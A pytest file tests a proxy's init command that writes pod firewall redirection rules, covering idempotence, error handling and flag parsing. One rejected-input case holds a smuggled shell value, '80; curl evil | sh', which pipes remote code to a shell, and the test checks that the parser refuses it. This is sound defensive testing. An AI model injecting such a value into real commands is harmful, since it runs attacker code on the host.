"""The command that sets a pod's firewall rules."""

import argparse
import ipaddress

import pytest

from aegis_proxy import redirect
from aegis_proxy.core.redirection import Redirection


class Tools:
    """Firewall tools in memory: they remember their calls and which jumps are there. `broken` is one that fails."""

    def __init__(self, broken: str = "") -> None:
        self.calls: list[list[str]] = []
        self.given: list[str] = []
        self._jumps: set[tuple[str, ...]] = set()
        self._broken = broken

    def run(self, command: list[str], given: str) -> tuple[int, str]:
        self.calls.append(command)
        self.given.append(given)
        if command[0] == self._broken:
            return 3, "no permission"
        jump = (command[0], *command[5:])
        if "-C" in command:
            return (0, "") if jump in self._jumps else (1, "not there")
        if "-A" in command:
            self._jumps.add(jump)
        return 0, ""

    def added(self) -> int:
        return sum("-A" in call for call in self.calls)


def _read(*flags: str) -> Redirection:
    parser = argparse.ArgumentParser()
    redirect.add_flags(parser)
    return redirect.read_redirection(parser.parse_args(["--proxy-uid=1137", *flags]))


def test_both_families_are_set() -> None:
    """IPv4 and IPv6 get their rules and their two jumps each."""
    tools = Tools()
    redirect.redirect(Redirection(proxy_uid=1137, ingress_port=3127), tools.run)
    assert [call[0] for call in tools.calls if call[0].endswith("-restore")] == [
        "iptables-restore",
        "ip6tables-restore",
    ]
    assert tools.added() == 4


def test_a_second_run_changes_nothing_w09() -> None:
    """The init container may run again in the same pod: jumps are not doubled."""
    tools = Tools()
    redirection = Redirection(proxy_uid=1137, ingress_port=3127)
    redirect.redirect(redirection, tools.run)
    redirect.redirect(redirection, tools.run)
    assert tools.added() == 4
    assert not any("-F" in call for call in tools.calls)


@pytest.mark.parametrize("broken", ["iptables-restore", "ip6tables-restore"])
def test_a_failure_is_loud(broken: str) -> None:
    """A pod whose rules cannot be set does not start."""
    with pytest.raises(redirect.RedirectError, match="no permission"):
        redirect.redirect(Redirection(proxy_uid=1137, ingress_port=3127), Tools(broken).run)


def test_a_missing_tool_is_named() -> None:
    """An image without iptables says so."""
    with pytest.raises(redirect.RedirectError, match="aegis-no-such-tool is not installed"):
        redirect.run_tool(["aegis-no-such-tool"], "")


def test_a_tool_is_given_its_input() -> None:
    """The rules go to standard input, and what the tool says comes back."""
    assert redirect.run_tool(["cat"], "rules") == (0, "rules")


def test_flags() -> None:
    """The flags that the webhook writes are read back."""
    read = _read(
        "--ingress-port=3127",
        "--inbound-ports=8080,9090",
        "--exclude-inbound-ports=22",
        "--egress-port=3128",
        "--exclude-outbound-ports=5432",
        "--exclude-outbound-cidrs=10.0.0.0/8,fd00::/8",
    )
    assert read == Redirection(
        1137,
        3127,
        (8080, 9090),
        (22,),
        3128,
        (5432,),
        (ipaddress.ip_network("10.0.0.0/8"), ipaddress.ip_network("fd00::/8")),
    )
    assert _read("--inbound-ports=all").inbound_ports == ()
    assert _read("--exclude-outbound-cidrs=").excluded_outbound_networks == ()


@pytest.mark.parametrize(
    "flag",
    [
        "--ingress-port=0",
        "--ingress-port=65536",
        "--inbound-ports=80; curl evil | sh",
        "--inbound-ports=８０",
        "--proxy-uid=-1",
        "--exclude-outbound-cidrs=10.0.0.1/8",
        "--exclude-outbound-cidrs=everything",
    ],
)
def test_what_is_no_number_and_no_network_is_refused_x21(flag: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Nothing but numbers and networks ever reaches a firewall tool."""
    with pytest.raises(SystemExit):
        _read(flag)
    assert "wanted" in capsys.readouterr().err
